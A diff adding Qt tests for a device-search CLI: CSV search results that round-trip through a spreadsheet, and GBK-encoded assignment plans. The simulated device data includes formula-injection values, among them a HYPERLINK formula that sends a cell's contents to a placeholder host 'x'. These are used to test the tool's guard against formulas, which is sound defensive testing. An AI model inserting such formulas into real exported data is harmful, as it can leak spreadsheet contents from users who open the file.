@@ -149,6 +149,10 @@ private slots:
     void searchErrorsSendNothing_data();
     void searchErrorsSendNothing();
     void planOverTwoLans();
+    void planFromASearchRoundTrips_data();
+    void planFromASearchRoundTrips();
+    void legacyCodePagePlan_data();
+    void legacyCodePagePlan();
     void stopReportsEveryDevice_data();
     void stopReportsEveryDevice();
     void logAfterKillListsEveryFrame();
@@ -383,6 +387,99 @@ void TestAssign::planOverTwoLans()
     // Each LAN got its own devices' commands and no other.
     QCOMPARE(commandsReceived(first, "veth0"), wantedFirst);
     QCOMPARE(commandsReceived(second, "veth2"), wantedSecond);
+}
+
+void TestAssign::planFromASearchRoundTrips_data()
+{
+    QTest::addColumn<QString>("separator"); // as the spreadsheet saves the edited file
+    QTest::newRow("saved again with commas") << ",";
+    QTest::newRow("saved again with semicolons, as on a German Windows") << ";";
+}
+
+void TestAssign::planFromASearchRoundTrips()
+{
+    QFETCH(QString, separator);
+    // Names and serial numbers as any machine on the LAN may answer them.
+    const QList<QPair<QString, QString>> devices { { "=SN1+1", "=HYPERLINK(\"http://x/?\"&A1,\"open\")" },
+        { "-SN2", "@SUM(A1:A9)" }, { "+SN,3", "a \"quoted\", name\nwith a new line" },
+        { "SN 4", QStringLiteral("设备\t四") }, { "SN\"5;", "\tTab" } };
+    QJsonArray identities;
+    for (const auto& [sn, name] : devices)
+        identities.append(QJsonObject { { "sn", sn }, { "name", name } });
+    const QString file = writePlan(m_dir, QJsonDocument(identities).toJson(), "identities.json");
+    DevsimProcess devsim;
+    QVERIFY2(devsim.start(kNumberedDevices + QStringList { "--count", "5", "--identities", file }),
+        qPrintable(devsim.error()));
+    const CliRun search = runCli({ "search", "--unique", "--format", "csv", "--bom", "--wait", "0.5" });
+    QVERIFY2(search.status == 0 && search.out.startsWith("\xEF\xBB\xBF"), search.err.constData());
+
+    // A person fills in a new column, and the spreadsheet saves every cell as it read it.
+    QVector<QStringList> records;
+    QVERIFY2(ReadCsv(QString::fromUtf8(search.out).mid(1), &records), search.out.constData());
+    QCOMPARE(records.size(), devices.size() + 1);
+    QMap<QString, QString> expected; // by the serial number the device has
+    QByteArray plan = "\xEF\xBB\xBF";
+    for (int r = 0; r < records.size(); ++r) {
+        const QString ip = QStringLiteral("10.2.0.%1").arg(10 + r);
+        QStringList cells = records.at(r);
+        cells << (r == 0 ? QStringLiteral("New IP") : ip);
+        // The sn column holds what the device sent, after the guard against formulas.
+        const auto device = std::find_if(devices.begin(), devices.end(),
+            [&](const auto& d) { return cells.at(3) == d.first || cells.at(3) == '\'' + d.first; });
+        if (r > 0) {
+            QVERIFY2(device != devices.end(), qPrintable(cells.at(3)));
+            expected.insert(device->first, ip + " confirmed");
+        }
+        for (QString& cell : cells)
+            cell = '"' + cell.replace('"', "\"\"") + '"';
+        plan += cells.join(separator).toUtf8() + "\r\n";
+    }
+
+    const CliRun run = runCli({ "assign", "--plan", writePlan(m_dir, plan), "--mask", "255.255.0.0", "--wait",
+        "0.5", "--verify", "10", "--format", "json" });
+    QVERIFY2(run.status == 0, run.err.constData());
+    QMap<QString, QString> assigned;
+    for (const QJsonValue& v : jsonOf(run))
+        assigned.insert(v.toObject().value("sn").toString(),
+            v.toObject().value("ip").toString() + ' ' + v.toObject().value("status").toString());
+    QCOMPARE(assigned, expected);
+    QCOMPARE(commandedSerials(devsim), QSet<QString>(expected.keyBegin(), expected.keyEnd()));
+}
+
+void TestAssign::legacyCodePagePlan_data()
+{
+    QTest::addColumn<QStringList>("args");
+    QTest::addColumn<int>("status");
+    QTest::addColumn<QString>("message"); // the start of standard error
+    // Windows reads such a file in its own code page; the suite runs Wine as a Chinese one.
+    const bool windows = !qEnvironmentVariableIsEmpty("DEVICESEARCH_CLI");
+    QTest::newRow("no --encoding")
+        << QStringList() << (windows ? 0 : 2)
+        << (windows ? "devicesearch-cli: %1 is not UTF-8: read in the system's code "
+                      "page GBK"
+                    : "devicesearch-cli: %1:1: not UTF-8 text: save it as \"CSV "
+                      "UTF-8\", or give its encoding with --encoding");
+    QTest::newRow("--encoding GB18030") << QStringList { "--encoding", "GB18030" } << 0 << "";
+}
+
+void TestAssign::legacyCodePagePlan()
+{
+    QFETCH(QStringList, args);
+    QFETCH(int, status);
+    QFETCH(QString, message);
+    if (qEnvironmentVariable("WINE_LOCALE", "zh").startsWith("en"))
+        QSKIP("Wine runs with another code page");
+    DevsimProcess devsim;
+    QVERIFY2(devsim.start(kNumberedDevices), qPrintable(devsim.error()));
+    // As a spreadsheet saves "CSV" on a Chinese Windows: GBK, with a Chinese note column.
+    const QString plan
+        = writePlan(m_dir, "sn,ip,\xb1\xb8\xd7\xa2\r\nSN0001,10.2.0.5,\xd6\xd0\xce\xc4\r\n", "gbk.csv");
+    const CliRun run = runCli(QStringList { "assign", "--plan", plan, "--mask", "255.255.0.0", "--wait",
+                                  "0.5", "--dry-run", "--format", "csv" }
+        + args);
+    QVERIFY2(run.status == status && run.err.startsWith(message.arg(plan).toUtf8()), run.err.constData());
+    QCOMPARE(run.out.contains("SN0001,10.1.0.1,10.2.0.5"), status == 0);
+    QCOMPARE(commandsReceived(devsim), QStringList());
 }
 
 void TestAssign::stopReportsEveryDevice_data()
